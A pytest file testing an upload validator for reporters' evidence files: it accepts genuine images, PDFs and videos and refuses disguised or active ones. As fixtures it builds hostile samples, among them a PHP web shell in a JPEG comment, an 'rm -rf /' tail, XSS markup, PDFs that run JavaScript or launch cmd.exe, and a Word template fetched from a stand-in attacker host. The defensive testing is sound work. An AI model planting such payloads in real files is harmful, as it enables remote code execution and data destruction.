"""What happens to a file a reporter attaches as evidence.

Every file is built here (Pillow, fpdf2 or raw bytes): the good kinds must come
through with their type, size and hash, images with a display copy that has lost
its GPS position; the bad ones (wrong kind, renamed, two formats in one, active PDF,
broken, too big) must be refused with a message the reporter can act on.
"""

from __future__ import annotations

import hashlib
import io
import random
import unicodedata
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from fpdf import FPDF
from fpdf.actions import LaunchAction
from PIL import ExifTags, Image, ImageCms, PngImagePlugin

from core.uploads import ALLOWED_TYPES, CheckedFile, check_upload

MAX_BYTES = 5 * 1024 * 1024
HANOI = {  # the kind of position a phone writes into every photo
    ExifTags.GPS.GPSLatitudeRef: "N",
    ExifTags.GPS.GPSLatitude: (21.0, 1.0, 42.0),
    ExifTags.GPS.GPSLongitudeRef: "E",
    ExifTags.GPS.GPSLongitude: (105.0, 51.0, 15.0),
}


# --- files as a reporter's phone or computer would produce them -----------------


def exif_with_gps(orientation: int | None = None) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Samsung"
    if orientation:
        exif[ExifTags.Base.Orientation] = orientation
    exif.get_ifd(ExifTags.IFD.GPSInfo).update(HANOI)
    return exif


def screenshot(size: tuple[int, int] = (64, 48)) -> Image.Image:
    # Noise, so the compressed data is long enough to be cut in the middle.
    noise = random.Random(7).randbytes(size[0] * size[1] * 3)
    return Image.frombytes("RGB", size, noise)


def encode(image: Image.Image, image_format: str, **options) -> bytes:
    output = io.BytesIO()
    image.save(output, format=image_format, **options)
    return output.getvalue()


def png_bytes() -> bytes:
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", "Chụp tại 21.0285,105.8542")
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return encode(screenshot(), "PNG", pnginfo=text, exif=exif_with_gps(), icc_profile=icc)


def jpeg_bytes(orientation: int | None = None, **options) -> bytes:
    return encode(screenshot(), "JPEG", exif=exif_with_gps(orientation), **options)


def webp_bytes() -> bytes:
    return encode(screenshot(), "WEBP", exif=exif_with_gps())


def pdf_bytes(extra=None) -> bytes:
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(text="Bien ban ghi nhan vi pham ngay 12/03/2025")
    if extra:
        extra(pdf)
    return bytes(pdf.output())


def handmade_pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF written by hand, for what fpdf2 will not write (JavaScript, object
    streams, XFA): objects numbered from 1, a cross-reference table, a trailer."""
    body, offsets = b"%PDF-1.7\n", []
    for number, obj in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, obj)
    xref = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return body + b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, trailer, xref,
    )  # fmt: skip


def run_length(data: bytes) -> bytes:
    """RunLengthDecode's encoding, literal runs only (a length byte, then the bytes)."""
    runs = [data[start : start + 128] for start in range(0, len(data), 128)]
    return b"".join(bytes([len(run) - 1]) + run for run in runs) + b"\x80"


def object_stream(content: bytes, filters: bytes = b"/FlateDecode", encode=zlib.compress, number: int = 4) -> bytes:
    """An object stream holding one object (numbered `number`) that no table lists."""
    index = b"%d 0 " % number
    packed = encode(index + content)
    header = b"<< /Type /ObjStm /N 1 /First %d /Filter %s /Length %d >>\n" % (len(index), filters, len(packed))
    return header + b"stream\n" + packed + b"\nendstream"


CATALOG = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>"
PLAIN_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [] /Count 0 >>"
ALERT = b"<< /S /JavaScript /JS (app.alert('Tai khoan bi khoa');) >>"
LINK_WITH_SCRIPT = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A " + ALERT + b" >>"


def box(kind: bytes, payload: bytes) -> bytes:
    return (8 + len(payload)).to_bytes(4, "big") + kind + payload


def mp4_bytes() -> bytes:
    ftyp = box(b"ftyp", b"isom" + (0x200).to_bytes(4, "big") + b"isommp41")
    return ftyp + box(b"mdat", bytes(range(256)) * 4)


def zip_bytes() -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("payload.exe", b"MZ" + bytes(200))
    return output.getvalue()


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def refusal(name: str, content: bytes, *, max_bytes: int = MAX_BYTES) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        check_upload(upload(name, content), max_bytes=max_bytes)
    return caught.value


def decoded(data: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(data))
    image.load()
    return image


# --- accepted --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "build", "content_type", "extension"),
    [
        pytest.param("anh-chup-man-hinh.png", png_bytes, "image/png", ".png", id="a_png_screenshot"),
        pytest.param("IMG_2031.jpg", jpeg_bytes, "image/jpeg", ".jpg", id="a_phone_photo"),
        pytest.param("IMG_2031.JPEG", jpeg_bytes, "image/jpeg", ".jpg", id="a_photo_named_JPEG"),
        pytest.param("bai-dang.webp", webp_bytes, "image/webp", ".webp", id="a_webp_saved_from_the_browser"),
        pytest.param("bien-ban.pdf", pdf_bytes, "application/pdf", ".pdf", id="a_pdf_letter"),
        pytest.param("quay-man-hinh.mp4", mp4_bytes, "video/mp4", ".mp4", id="a_screen_recording"),
    ],
)
def test_a_genuine_file_is_accepted_as_what_it_is(name, build, content_type, extension):
    content = build()

    checked = check_upload(upload(name, content), max_bytes=MAX_BYTES)

    assert isinstance(checked, CheckedFile)
    assert checked.content_type == content_type
    assert content_type in ALLOWED_TYPES
    assert checked.extension == extension
    assert checked.name == name
    assert checked.data == content
    assert checked.size == len(content)
    assert checked.sha256 == hashlib.sha256(content).hexdigest()
    assert (checked.display is None) == (content_type in {"application/pdf", "video/mp4"})


@pytest.mark.parametrize(
    ("name", "build"),
    [
        pytest.param("anh.png", png_bytes, id="png"),
        pytest.param("anh.jpg", jpeg_bytes, id="jpeg"),
        pytest.param("anh.webp", webp_bytes, id="webp"),
    ],
)
def test_the_display_copy_of_a_photo_no_longer_tells_where_it_was_taken(name, build):
    content = build()
    assert decoded(content).getexif().get_ifd(ExifTags.IFD.GPSInfo) == HANOI

    checked = check_upload(upload(name, content), max_bytes=MAX_BYTES)

    display = decoded(checked.display)
    assert display.format == decoded(content).format
    assert display.size == (64, 48)
    assert not display.getexif()
    assert not display.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert {"exif", "icc_profile", "xmp", "Comment", "comment"}.isdisjoint(display.info)
    assert b"Exif" not in checked.display and b"EXIF" not in checked.display
    assert b"21.0285" not in checked.display
    assert checked.data == content  # inspectors still get the original, GPS and all


def test_a_photo_taken_sideways_is_displayed_upright():
    checked = check_upload(upload("IMG_2032.jpg", jpeg_bytes(orientation=6)), max_bytes=MAX_BYTES)

    display = decoded(checked.display)
    assert display.size == (48, 64)
    assert ExifTags.Base.Orientation not in display.getexif()


@pytest.mark.parametrize(
    ("raw_name", "shown"),
    [
        pytest.param("C:\\Users\\Lan\\Ảnh chụp màn hình.png", "Ảnh chụp màn hình.png", id="a_windows_path"),
        pytest.param("../../etc/anh.png", "anh.png", id="a_path_climbing_out"),
        pytest.param(unicodedata.normalize("NFD", "Bằng chứng.png"), "Bằng chứng.png", id="a_mac_decomposed_name"),
        pytest.param("anh\u202egnp.png", "anhgnp.png", id="a_right_to_left_override"),
        pytest.param("bang\u200bchung.png", "bangchung.png", id="a_zero_width_space"),
    ],
)
def test_the_name_shown_is_a_plain_file_name(raw_name, shown):
    checked = check_upload(upload(raw_name, png_bytes()), max_bytes=MAX_BYTES)

    assert checked.name == shown
    assert unicodedata.is_normalized("NFC", checked.name)


def test_a_very_long_name_is_shortened_but_keeps_its_extension():
    checked = check_upload(upload("bằng chứng " * 40 + ".png", png_bytes()), max_bytes=MAX_BYTES)

    assert len(checked.name) == 200
    assert checked.name.endswith(".png")


def test_a_file_the_form_already_read_is_read_again_from_the_start():
    content = jpeg_bytes()
    file = upload("anh.jpg", content)
    file.read()

    assert check_upload(file, max_bytes=MAX_BYTES).data == content


@pytest.mark.parametrize(
    ("name", "build"),
    [
        pytest.param("anh.jpg", lambda: jpeg_bytes() + bytes(16), id="a_jpeg_padded_with_zeros"),
        pytest.param("anh.jpg", lambda: jpeg_bytes(comment=b"Chup bang Zalo"), id="a_jpeg_with_a_comment"),
        pytest.param(
            "don.pdf", lambda: handmade_pdf(PLAIN_CATALOG, PAGES, b"<< /S /Named /N /NextPage >>"), id="a_pdf"
        ),
        pytest.param(
            "don.pdf",
            lambda: handmade_pdf(PLAIN_CATALOG, PAGES, object_stream(b"<< /S /Named /N /NextPage >>")),
            id="a_pdf_with_a_harmless_object_stream",
        ),
        pytest.param(
            "don.pdf",
            lambda: handmade_pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>", PAGES, b"<< >>"),
            id="a_pdf_that_opens_at_a_page",
        ),
    ],
)
def test_ordinary_files_are_not_mistaken_for_disguised_ones(name, build):
    assert check_upload(upload(name, build()), max_bytes=MAX_BYTES).name == name


# --- refused ---------------------------------------------------------------------


def truncated(data: bytes) -> bytes:
    return data[: len(data) // 2]


def damaged_png() -> bytes:
    # Flip bytes inside the picture data: the chunks still line up, the CRC does not.
    data = bytearray(png_bytes())
    start = data.index(b"IDAT") + 20
    data[start : start + 8] = bytes(8)
    return bytes(data)


def pdf_with_launch(pdf: FPDF) -> None:
    pdf.add_action(LaunchAction("cmd.exe"), x=10, y=10, w=50, h=10)


def pdf_with_link(pdf: FPDF) -> None:
    pdf.link(x=10, y=10, w=50, h=10, link="https://facebook.com/bai-dang")


def pdf_with_attachment(pdf: FPDF) -> None:
    pdf.embed_file(bytes=b"MZ" + bytes(100), basename="hoa-don.exe")


def zip_in_text_chunk() -> PngImagePlugin.PngInfo:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", zip_bytes().decode("latin-1"))
    return info


NOT_ALLOWED = "Chỉ nhận ảnh PNG, JPEG, WebP, tệp PDF hoặc video MP4."
HIDDEN = "còn chứa dữ liệu khác"
ACTIVE = "chứa mã JavaScript, lệnh chạy chương trình hoặc tệp đính kèm"
BROKEN = "bị hỏng hoặc không trọn vẹn"

REFUSED = [
    # Not one of the five kinds, whatever the name says.
    ("a_program_renamed_to_png", "anh.png", lambda: b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00", NOT_ALLOWED),
    ("a_web_page_renamed_to_jpg", "anh.jpg", lambda: b"<!DOCTYPE html><html><script>alert(1)</script>", NOT_ALLOWED),
    ("a_zip_renamed_to_pdf", "bien-ban.pdf", zip_bytes, NOT_ALLOWED),
    ("a_text_file_renamed_to_mp4", "video.mp4", lambda: "Đây không phải video".encode() * 10, NOT_ALLOWED),
    ("an_mp4_without_ftyp_first", "video.mp4", lambda: box(b"mdat", bytes(64)) + mp4_bytes(), NOT_ALLOWED),
    ("a_bmp_screenshot", "anh.bmp", lambda: encode(screenshot(), "BMP"), NOT_ALLOWED),
    # The right kind under the wrong name.
    ("a_jpeg_named_png", "anh.png", jpeg_bytes, "là ảnh JPEG nhưng đuôi tên tệp là “.png”"),
    ("a_pdf_named_jpg", "anh.jpg", pdf_bytes, "là tệp PDF nhưng đuôi tên tệp là “.jpg”"),
    ("a_png_with_no_extension", "anh", png_bytes, "là ảnh PNG nhưng đuôi tên tệp là “(không có)”"),
    ("a_png_disguising_exe_with_rtl", "anh\u202egnp.exe", png_bytes, "đuôi tên tệp là “.exe”"),
    # One file that is two formats at once.
    ("a_png_with_a_zip_appended", "anh.png", lambda: png_bytes() + zip_bytes(), HIDDEN),
    (
        "a_png_with_a_zip_in_a_text_chunk",
        "anh.png",
        lambda: encode(screenshot(), "PNG", pnginfo=zip_in_text_chunk()),
        HIDDEN,
    ),
    ("a_jpeg_with_html_after_the_end", "anh.jpg", lambda: jpeg_bytes() + b"<html><script>alert(1)</script>", HIDDEN),
    ("a_jpeg_with_php_in_its_comment", "anh.jpg", lambda: jpeg_bytes(comment=b"<?php system($_GET['c']); ?>"), HIDDEN),
    ("a_webp_with_bytes_after_riff", "anh.webp", lambda: webp_bytes() + b"#!/bin/sh\nrm -rf /\n", HIDDEN),
    ("a_pdf_carrying_a_zip", "bien-ban.pdf", lambda: pdf_bytes() + zip_bytes(), HIDDEN),
    ("an_mp4_with_a_stray_tail", "video.mp4", lambda: mp4_bytes() + b"PK\x05\x06", HIDDEN),
    # PDFs that act when opened.
    ("a_pdf_with_javascript", "don.pdf", lambda: handmade_pdf(CATALOG, PAGES, ALERT), ACTIVE),
    (
        "a_pdf_with_javascript_spelled_in_hex",
        "don.pdf",
        lambda: handmade_pdf(CATALOG, PAGES, b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        ACTIVE,
    ),
    (
        "a_pdf_hiding_javascript_in_an_object_stream",
        "don.pdf",
        lambda: handmade_pdf(PLAIN_CATALOG, PAGES, object_stream(LINK_WITH_SCRIPT)),
        ACTIVE,
    ),
    (
        "a_pdf_hiding_javascript_in_a_run_length_object_stream",
        "don.pdf",
        lambda: handmade_pdf(
            PLAIN_CATALOG, PAGES, object_stream(LINK_WITH_SCRIPT, filters=b"/RunLengthDecode", encode=run_length)
        ),
        ACTIVE,
    ),
    (
        "a_pdf_hiding_javascript_in_a_twice_deflated_object_stream",
        "don.pdf",
        lambda: handmade_pdf(
            PLAIN_CATALOG,
            PAGES,
            object_stream(
                LINK_WITH_SCRIPT,
                filters=b"[/FlateDecode /FlateDecode]",
                encode=lambda data: zlib.compress(zlib.compress(data)),
            ),
        ),
        ACTIVE,
    ),
    (
        "a_pdf_with_an_xfa_form",
        "don.pdf",
        lambda: handmade_pdf(
            b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 3 0 R >> >>",
            PAGES,
            b'<< /Length 44 >>\nstream\n<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>\nendstream',
        ),
        ACTIVE,
    ),
    (
        "a_pdf_that_opens_a_web_address",
        "don.pdf",
        lambda: handmade_pdf(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (https://example.com/dang-nhap) >> >>",
            PAGES,
        ),
        ACTIVE,
    ),
    (
        "a_pdf_that_submits_a_form_when_opened",
        "don.pdf",
        lambda: handmade_pdf(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
            PAGES,
            b"<< /S /SubmitForm /F << /FS /URL /F (https://example.com/thu-thap) >> /Flags 4 >>",
        ),
        ACTIVE,
    ),
    (
        "a_pdf_with_a_named_action_on_opening",
        "don.pdf",
        lambda: handmade_pdf(CATALOG, PAGES, b"<< /S /Named /N /Print >>"),
        ACTIVE,
    ),
    (
        "a_pdf_with_additional_actions_on_a_page",
        "don.pdf",
        lambda: handmade_pdf(
            PLAIN_CATALOG,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /AA << /O << /S /Named /N /Print >> >> >>",
        ),
        ACTIVE,
    ),
    (
        "a_pdf_that_imports_form_data",
        "don.pdf",
        lambda: handmade_pdf(PLAIN_CATALOG, PAGES, b"<< /S /ImportData /F (du-lieu.fdf) >>"),
        ACTIVE,
    ),
    (
        "a_pdf_with_rich_media",
        "don.pdf",
        lambda: handmade_pdf(PLAIN_CATALOG, PAGES, b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>"),
        ACTIVE,
    ),
    ("a_pdf_with_a_web_link", "don.pdf", lambda: pdf_bytes(pdf_with_link), ACTIVE),
    ("a_pdf_that_launches_a_program", "don.pdf", lambda: pdf_bytes(pdf_with_launch), ACTIVE),
    ("a_pdf_with_an_attached_file", "don.pdf", lambda: pdf_bytes(pdf_with_attachment), ACTIVE),
    (
        "an_encrypted_pdf_with_object_streams",
        "don.pdf",
        lambda: handmade_pdf(
            PLAIN_CATALOG,
            PAGES,
            object_stream(LINK_WITH_SCRIPT, number=5),
            b"<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>",
            trailer=b"/Encrypt 4 0 R /ID [<01> <01>] ",
        ),
        "Không kiểm tra được nội dung tệp PDF",
    ),
    (
        "a_pdf_no_parser_can_read",
        "don.pdf",
        lambda: b"%PDF-1.7\n" + random.Random(3).randbytes(400) + b"\nstartxref\n999999\n%%EOF\n",
        "Không kiểm tra được nội dung tệp PDF",
    ),
    # Broken files.
    ("a_png_cut_off_mid_upload", "anh.png", lambda: truncated(png_bytes()), BROKEN),
    ("a_jpeg_cut_off_mid_upload", "anh.jpg", lambda: truncated(jpeg_bytes()), BROKEN),
    ("a_png_with_damaged_pixels", "anh.png", damaged_png, BROKEN),
    ("a_pdf_cut_off_mid_upload", "don.pdf", lambda: truncated(pdf_bytes()), BROKEN),
    ("an_mp4_cut_off_mid_upload", "video.mp4", lambda: truncated(mp4_bytes()), BROKEN),
]


@pytest.mark.parametrize(("name", "build", "says"), [pytest.param(*case[1:], id=case[0]) for case in REFUSED])
def test_a_suspicious_or_broken_file_is_refused_with_a_reason(name, build, says):
    error = refusal(name, build())

    [message] = error.messages
    assert says in message
    assert name.replace("\u202e", "") in message


def test_an_empty_file_is_refused():
    [message] = refusal("anh.png", b"").messages

    assert message == "Tệp anh.png trống, không có nội dung."


def test_a_file_over_the_limit_is_refused_and_the_limit_given_in_mb():
    [message] = refusal("video.mp4", mp4_bytes() + bytes(600_000), max_bytes=512 * 1024).messages

    assert message == "Tệp video.mp4 quá lớn: tối đa 0,5 MB."


class LyingUpload(io.BytesIO):
    """An upload whose declared size is smaller than what it sends."""

    name = "video.mp4"
    size = 10

    def __init__(self, content: bytes) -> None:
        super().__init__(content)
        self.bytes_read = 0

    def read(self, size: int | None = -1) -> bytes:
        chunk = super().read(size)
        self.bytes_read += len(chunk)
        return chunk


def test_a_file_lying_about_its_size_is_not_read_past_the_limit():
    file = LyingUpload(mp4_bytes() + bytes(1_000_000))

    with pytest.raises(ValidationError, match="quá lớn"):
        check_upload(file, max_bytes=1024)
    assert file.bytes_read == 1025


@pytest.mark.parametrize("limit", [2000, 1000], ids=["just_over_the_pixel_limit", "far_over_the_pixel_limit"])
def test_an_image_with_too_many_pixels_is_refused_before_it_is_decoded(monkeypatch, limit):
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", limit)  # the 64 × 48 test image has 3072

    [message] = refusal("anh.png", png_bytes()).messages

    assert "quá nhiều điểm ảnh" in message


def test_a_pdf_with_more_objects_than_the_budget_is_refused(monkeypatch):
    monkeypatch.setattr("core.uploads._PDF_MAX_OBJECTS", 3)  # the fpdf2 letter has more

    [message] = refusal("bien-ban.pdf", pdf_bytes()).messages

    assert message == (
        "Tệp PDF bien-ban.pdf có quá nhiều đối tượng để kiểm tra an toàn. "
        "Hãy in lại thành PDF thông thường (hoặc chia nhỏ tệp) rồi gửi."
    )


def png_with_text(add) -> bytes:
    info = PngImagePlugin.PngInfo()
    add(info)
    return encode(screenshot(), "PNG", pnginfo=info)


@pytest.mark.parametrize(
    "add",
    [
        pytest.param(lambda info: info.add_text("Comment", "<img src=x onerror=alert(1)>"), id="img_onerror_in_tEXt"),
        pytest.param(lambda info: info.add_text("Comment", "<svg onload=alert(1)>", zip=True), id="svg_onload_in_zTXt"),
        pytest.param(lambda info: info.add_itxt("Title", "<svg onload=alert(1)>", zip=True), id="svg_onload_in_iTXt"),
        pytest.param(lambda info: info.add_itxt("Title", "<img src=x onerror=alert(1)>"), id="img_onerror_in_iTXt"),
    ],
)
def test_a_png_with_markup_in_a_text_chunk_is_kept_only_as_its_re_encoded_pixels(add):
    content = png_with_text(add)

    checked = check_upload(upload("anh.png", content), max_bytes=MAX_BYTES)

    assert checked.received_kept is False
    assert checked.data == checked.display
    assert b"onerror" not in checked.data and b"onload" not in checked.data
    assert not {"Comment", "Title"} & set(decoded(checked.data).info)
    assert checked.sha256 == hashlib.sha256(content).hexdigest()  # the hash is still of what was received
    assert checked.size == len(content)


def test_a_png_whose_text_has_no_markup_is_kept_as_received():
    content = png_with_text(lambda info: info.add_text("Comment", "Chụp màn hình lúc 9 giờ 15"))

    checked = check_upload(upload("anh.png", content), max_bytes=MAX_BYTES)

    assert checked.received_kept is True and checked.data == content


# Word documents, accepted where documents are (implementation reports), never as evidence.


def docx_bytes(*, extra: dict | None = None, rels: str = "") -> bytes:
    from docx import Document

    buffer = io.BytesIO()
    document = Document()
    document.add_paragraph("Báo cáo kết quả quán triệt Công văn 3821/TCT-KTNB.")
    document.save(buffer)
    if not (extra or rels):
        return buffer.getvalue()
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if rels and item.filename == "word/_rels/document.xml.rels":
                content = content.replace(b"</Relationships>", rels.encode() + b"</Relationships>")
            target.writestr(item, content)
        for name, content in (extra or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def test_a_word_report_is_accepted_as_a_document():
    from core.uploads import DOCUMENT_TYPES

    checked = check_upload(SimpleUploadedFile("bao-cao.docx", docx_bytes()), max_bytes=10**7, kinds=DOCUMENT_TYPES)

    assert (checked.content_type, checked.extension) == (
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ".docx",
    )


def test_a_word_file_is_not_evidence():
    with pytest.raises(ValidationError) as refused:
        check_upload(SimpleUploadedFile("bao-cao.docx", docx_bytes()), max_bytes=10**7)

    assert refused.value.messages == [
        "Tệp bao-cao.docx không thuộc loại được nhận. Chỉ nhận ảnh PNG, JPEG, WebP, tệp PDF hoặc video MP4."
    ]


@pytest.mark.parametrize(
    ("extra", "rels"),
    [
        ({"word/vbaProject.bin": b"macro"}, ""),
        ({"word/activeX/activeX1.xml": b"<ax/>"}, ""),
        ({"word/embeddings/oleObject1.bin": b"ole"}, ""),
        (
            None,
            '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'attachedTemplate" Target="http://ke-xau.example/mau.dotm" TargetMode="External"/>',
        ),
    ],
    ids=["macros", "activex", "ole-object", "remote-template"],
)
def test_a_word_file_that_runs_code_is_refused(extra, rels):
    from core.uploads import DOCUMENT_TYPES

    with pytest.raises(ValidationError) as refused:
        check_upload(
            SimpleUploadedFile("bao-cao.docx", docx_bytes(extra=extra, rels=rels)),
            max_bytes=10**7,
            kinds=DOCUMENT_TYPES,
        )

    assert refused.value.messages == [
        "Tệp bao-cao.docx ngoài văn bản Word (.docx) còn chứa dữ liệu khác (tệp nén hoặc mã lệnh) nên không được nhận."
    ]


def test_a_hyperlink_in_a_word_file_is_fine():
    from core.uploads import DOCUMENT_TYPES

    link = (
        '<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"'
        ' Target="https://thuvienphapluat.vn/" TargetMode="External"/>'
    )

    checked = check_upload(SimpleUploadedFile("bc.docx", docx_bytes(rels=link)), max_bytes=10**7, kinds=DOCUMENT_TYPES)

    assert checked.extension == ".docx"


# --- where each container ends (what the mutation run showed untested) ------------
# The checker keeps a file only when nothing follows the end of its one format, so
# the end it finds must be exact: one byte short and a payload hides after it.

from core.uploads import _jpeg_end, _mp4_end, _png_text_has_markup  # noqa: E402

SOI, EOI = b"\xff\xd8", b"\xff\xd9"
SOS = b"\xff\xda\x00\x02"  # start of scan with an empty header


@pytest.mark.parametrize(
    ("data", "end"),
    [
        pytest.param(SOI + EOI, 4, id="nothing_but_start_and_end"),
        pytest.param(SOI + b"\xff\xff" + EOI, 6, id="fill_bytes_before_a_marker"),
        pytest.param(SOI + b"\xff\xd0\xff\xd7\xff\x01" + EOI, 10, id="markers_without_a_length"),
        pytest.param(SOI + b"\xff\xfe\x00\x02" + EOI, 8, id="an_empty_comment"),
        pytest.param(SOI + b"\xff\xd8\x00\x04ab" + EOI, 10, id="a_start_marker_inside_carries_a_length"),
        pytest.param(SOI + SOS + b"\x12\xff\x00\x34" + EOI, 12, id="a_stuffed_ff_in_the_scan"),
        pytest.param(SOI + SOS + b"\x12\xff\xd0\x34\xff\xd7\x56" + EOI, 15, id="restart_markers_in_the_scan"),
        pytest.param(SOI + SOS + b"\x12\xff\xff\xd9", 10, id="fill_before_the_end_of_the_scan"),
        pytest.param(SOI + SOS + b"\x12" + EOI + b"\xff\x00", 9, id="bytes_after_the_end_are_not_part_of_it"),
        pytest.param(SOI + SOS + b"\x12\xff\xd8\x00\x04" + EOI + EOI, 15, id="a_marker_ends_the_scan_and_is_skipped"),
    ],
)
def test_a_jpeg_ends_just_after_the_end_marker_that_closes_its_segments(data, end):
    assert _jpeg_end(data) == end


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(SOI + b"\xff", id="cut_after_a_marker_prefix"),
        pytest.param(SOI + b"\xff\xff", id="cut_in_fill_bytes"),
        pytest.param(SOI + b"\xff\xe0\x00\x02", id="cut_after_a_segment"),
        pytest.param(SOI + b"\xff\xe0\x00\x01" + EOI, id="a_length_below_two"),
        pytest.param(SOI + b"\x00" + EOI, id="no_marker_where_one_is_due"),
        pytest.param(SOI + SOS + b"\x12\x34", id="cut_in_the_scan"),
        pytest.param(SOI + SOS + b"\x12\xff", id="cut_after_an_ff_in_the_scan"),
    ],
)
def test_a_jpeg_cut_short_has_no_end(data):
    assert _jpeg_end(data) is None


def test_a_jpeg_cut_in_a_scan_after_a_large_segment_has_no_end():
    # 64 KiB of metadata, then a scan that never ends: there is no end to find,
    # whatever the metadata happens to hold.
    app1 = b"\xff\xe1" + (65533).to_bytes(2, "big") + bytes(65505 - 4) + EOI
    app1 += bytes(4 + 65533 - len(app1) + 2)
    data = SOI + app1[: 2 + 2 + 65531] + SOS + b"\x12\x34"

    assert _jpeg_end(data) is None


FTYP = box(b"ftyp", b"isom" + (0x200).to_bytes(4, "big") + b"isommp41")


@pytest.mark.parametrize(
    ("data", "end"),
    [
        pytest.param(FTYP + b"\x00\x00\x00\x08free", 32, id="an_empty_box_last"),
        pytest.param(
            FTYP + (1).to_bytes(4, "big") + b"mdat" + (20).to_bytes(8, "big") + b"abcd", 44, id="a_64_bit_size"
        ),
        pytest.param(
            FTYP + (1).to_bytes(4, "big") + b"free" + (16).to_bytes(8, "big"), 40, id="a_64_bit_size_box_last"
        ),
        pytest.param(FTYP + (0).to_bytes(4, "big") + b"mdat" + b"runs to the end", 47, id="a_box_to_the_end"),
        pytest.param(FTYP + box(b"uu d", b"x"), 33, id="a_space_in_a_box_type"),
    ],
)
def test_an_mp4_ends_with_its_last_box(data, end):
    assert _mp4_end(data) == end


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(FTYP + (1).to_bytes(4, "big") + b"mdat\x00\x00", id="a_64_bit_size_cut_off"),
        pytest.param(FTYP + b"\x00\x00\x00\x07free", id="a_box_smaller_than_its_header"),
        pytest.param(FTYP + box(b"ab\x7fd", b"x"), id="a_control_character_in_a_box_type"),
        pytest.param(FTYP + box(b"mdat", b"x")[:-1], id="a_box_running_past_the_end"),
    ],
)
def test_a_malformed_mp4_has_no_end(data):
    assert _mp4_end(data) is None


def test_an_mp4_ending_with_an_empty_box_is_accepted():
    content = FTYP + box(b"mdat", bytes(range(256))) + b"\x00\x00\x00\x08free"

    assert check_upload(upload("video.mp4", content), max_bytes=MAX_BYTES).size == 296


@pytest.mark.parametrize(
    "add",
    [
        pytest.param(lambda info: info.add_text("Comment", "Chup luc 9 gio", zip=True), id="zTXt"),
        pytest.param(lambda info: info.add_itxt("Title", "Chụp lúc 9 giờ", zip=True), id="compressed_iTXt"),
    ],
)
def test_a_png_whose_compressed_text_has_no_markup_is_kept_as_received(add):
    content = png_with_text(add)

    checked = check_upload(upload("anh.png", content), max_bytes=MAX_BYTES)

    assert checked.received_kept is True and checked.data == content


def test_compressed_png_text_that_inflates_past_a_mebibyte_counts_as_markup():
    # It cannot be vouched for. (Pillow refuses such a PNG as broken before this is asked.)
    over = png_with_text(lambda info: info.add_text("Comment", "a" * 1_048_577, zip=True))
    at_the_limit = png_with_text(lambda info: info.add_text("Comment", "a" * 1_048_576, zip=True))

    assert _png_text_has_markup(over) is True
    assert _png_text_has_markup(at_the_limit) is False


@pytest.mark.parametrize(
    ("name", "build", "code", "message"),
    [
        pytest.param(
            "anh.png", lambda: b"MZ\x90\x00" + bytes(60), "unsupported_type",
            "Tệp anh.png không thuộc loại được nhận. Chỉ nhận ảnh PNG, JPEG, WebP, tệp PDF hoặc video MP4.",
            id="unsupported_type",
        ),
        pytest.param(
            "anh.png", jpeg_bytes, "extension_mismatch",
            "Nội dung tệp anh.png là ảnh JPEG nhưng đuôi tên tệp là “.png”. Hãy đặt lại tên cho đúng.",
            id="extension_mismatch",
        ),
        pytest.param(
            "anh.png", lambda: png_bytes() + zip_bytes(), "hidden_content",
            "Tệp anh.png ngoài ảnh PNG còn chứa dữ liệu khác (tệp nén hoặc mã lệnh) nên không được nhận.",
            id="hidden_content",
        ),
        pytest.param(
            "don.pdf", lambda: handmade_pdf(CATALOG, PAGES, ALERT), "active_content",
            "Tệp PDF don.pdf chứa mã JavaScript, lệnh chạy chương trình hoặc tệp đính kèm, hoặc có hành động tự"
            " động (mở liên kết, gửi biểu mẫu) nên không được nhận. Hãy in lại thành PDF thông thường rồi gửi.",
            id="active_content",
        ),
        pytest.param(
